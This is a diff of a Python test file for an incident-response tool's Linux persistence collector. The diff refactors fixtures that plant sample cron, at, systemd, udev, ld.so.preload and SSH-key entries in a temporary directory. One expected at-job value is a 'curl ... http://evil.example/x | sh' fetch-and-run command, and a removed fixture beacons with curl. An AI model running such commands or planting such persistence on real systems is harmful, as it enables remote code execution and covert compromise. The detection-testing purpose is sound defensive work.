@@ -17,8 +17,17 @@ import liveresponse
 from liveresponse.agent.commands import persistence
 from liveresponse.agent.commands.context import Cancelled, CommandContext
 from liveresponse.agent.platform.linux.persistence import mechanisms
-from tests.agent.test_scheduledtasks import AT_RUN, at_job_name, plant, plant_jobs, plant_user_timer
-from tests.agent.test_sshkeys import SSH_KEYGEN, crafted_sk_ed25519, generate_public_key, keygen_fingerprints
+from tests.agent.planting import (
+    AT_RUN,
+    at_job_name,
+    keygen_fingerprints,
+    needs_ssh_keygen,
+    plant,
+    plant_authorized_keys,
+    plant_boot_and_login,
+    plant_jobs,
+    plant_user_timer,
+)
 
 MECHANISMS = ["cron", "at", "systemd", "sysv", "rc.local", "udev", "modules-load", "modprobe", "shell-startup",
               "ld.so.preload", "ssh-authorized-keys", "xdg-autostart", "update-motd"]  # fmt: skip
@@ -40,31 +49,7 @@ def sha256(path: Path) -> str:
 def planted(tmp_path: Path) -> Path:
     plant_jobs(tmp_path)
     plant_user_timer(tmp_path)
-    plant(tmp_path, "/usr/local/bin/sync-all", "#!/bin/sh\necho sync\n", 0o755)
-    plant(tmp_path, "/etc/udev/rules.d/99-usb.rules",
-          '# comment RUN+="/nope"\nACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/sync-all --usb"\n'
-          'ACTION=="add", RUN{builtin}+="kmod load $env{MODALIAS}"\n')  # fmt: skip
-    plant(tmp_path, "/etc/ld.so.preload", "# preload\n/usr/lib/libevil.so\n")
-    plant(tmp_path, "/usr/lib/libevil.so", "not really a library")
-    plant(
-        tmp_path, "/etc/xdg/autostart/tray.desktop", "[Desktop Entry]\nName=Tray\nName[de]=Leiste\nExec=/usr/bin/tray\n"
-    )
-    plant(tmp_path, "/home/bob/.config/autostart/tray.desktop",
-          "[Desktop Entry]\nName=Bob tray\nExec=/home/bob/tray --hidden\nHidden=true\n")  # fmt: skip
-    plant(tmp_path, "/etc/modules-load.d/evil.conf", "# modules\nevilmod\n")
-    plant(tmp_path, "/etc/modprobe.d/evil.conf", "install usb_storage /usr/local/bin/sync-all --modprobe\n")
-    plant(tmp_path, "/etc/update-motd.d/99-beacon", "#!/bin/sh\ncurl evil\n", 0o755)
-    plant(tmp_path, "/etc/rc.local", "#!/bin/sh -e\n# comment\n/usr/local/bin/sync-all --boot &\nexit 0\n", 0o755)
-    plant(tmp_path, "/etc/init.d/legacy", "#!/bin/sh\n### BEGIN INIT INFO\n# Short-Description: Legacy daemon\n"
-          "### END INIT INFO\nDAEMON=/usr/sbin/legacyd\n", 0o755)  # fmt: skip
-    (tmp_path / "etc/rc2.d").mkdir()
-    (tmp_path / "etc/rc2.d/S01legacy").symlink_to("../init.d/legacy")
-    plant(tmp_path, "/home/alice/.bashrc", "alias ls='ls --color'\n")
-    plant(tmp_path, "/etc/systemd/system/evil.service", "[Service]\nExecStart=/usr/local/bin/sync-all --daemon\n"
-          "[Install]\nWantedBy=multi-user.target\n")  # fmt: skip
-    wants = tmp_path / "etc/systemd/system/multi-user.target.wants"
-    wants.mkdir()
-    (wants / "evil.service").symlink_to("/etc/systemd/system/evil.service")  # absolute: resolved inside the root
+    plant_boot_and_login(tmp_path)
     return tmp_path
 
 
@@ -79,7 +64,7 @@ def test_seven_kinds_of_cron_and_at_entries(planted: Path) -> None:
         ("/var/spool/cron/crontabs/alice", 3): ("alice", "@reboot", "/home/alice/.local/bin/agent --daemon"),
         ("/var/spool/cron/bob", 1): ("bob", "15 3 * * sun", "/usr/bin/python3 /home/bob/report.py"),
         (f"/var/spool/cron/atjobs/{at_job_name(7, AT_RUN)}", None): (
-            "alice", "2030-01-02T03:04:00Z", "/usr/bin/curl -s http://evil.example/x | sh",
+            "alice", "2030-01-02T03:04:00.000000Z", "/usr/bin/curl -s http://evil.example/x | sh",
         ),
     }  # fmt: skip
     for key, (user, schedule, command) in expected.items():
@@ -93,17 +78,9 @@ def test_seven_kinds_of_cron_and_at_entries(planted: Path) -> None:
     assert daily["modified"].endswith("Z") and all(row["root"] == str(planted) for row in rows)
 
 
-@pytest.mark.skipif(SSH_KEYGEN is None, reason="ssh-keygen is not installed")
+@needs_ssh_keygen
 def test_authorized_keys_of_every_user(planted: Path) -> None:
-    keys = [generate_public_key(planted, kind) for kind in ("ed25519", "rsa", "ecdsa")] + [crafted_sk_ed25519()]
-    lines = [
-        f'command="/usr/local/bin/sync-all --ssh",from="10.0.0.0/8,192.168.1.*" {keys[0]} alice@laptop',
-        f"{keys[1]} rsa-key",
-        f"no-pty,no-agent-forwarding {keys[2]} ecdsa-key",
-        f"no-touch-required {keys[3]} yubikey",
-    ]
-    authorized = plant(planted, "/home/alice/.ssh/authorized_keys", "# keys\n" + "\n".join(lines) + "\n", 0o600)
-    plant(planted, "/root/.ssh/authorized_keys2", f"{keys[1]} root-old\n", 0o600)
+    authorized = plant_authorized_keys(planted, planted)
     rows = of(collect(planted), "ssh-authorized-keys")
     alice = [row for row in rows if row["user"] == "alice"]
     assert [(row["bits"], row["fingerprint"]) for row in alice] == keygen_fingerprints(authorized)
